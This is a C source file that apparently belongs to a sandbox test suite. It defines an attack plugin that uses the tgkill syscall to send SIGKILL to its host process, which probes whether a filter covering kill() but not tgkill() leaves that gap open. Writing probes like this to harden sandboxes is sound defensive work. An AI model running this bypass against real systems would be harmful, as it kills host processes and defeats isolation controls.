/*
 * proc_tgkill_host — sends SIGKILL to the host's main thread with tgkill, the
 * thread-directed call beside kill. A filter that checks kill's target but lets
 * tgkill name any thread group lets a plugin kill its host all the same.
 */
#include "attack.h"

#include <signal.h>
#include <sys/syscall.h>

static sbx_status attack(const atk_input *in, atk_out *out)
{
    long host = atk_param_long(in, "host_pid", -1);
    if (host <= 0) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    if (syscall(SYS_tgkill, (pid_t)host, (pid_t)host, SIGKILL) == 0) {
        atk_gained(out, "sent SIGKILL to host %ld with tgkill", host);
        return SBX_OK;
    }
    atk_failed(out, "tgkill", errno);
    return SBX_ERR_DENIED;
}

ATK_INVOKE_PLUGIN(attack)
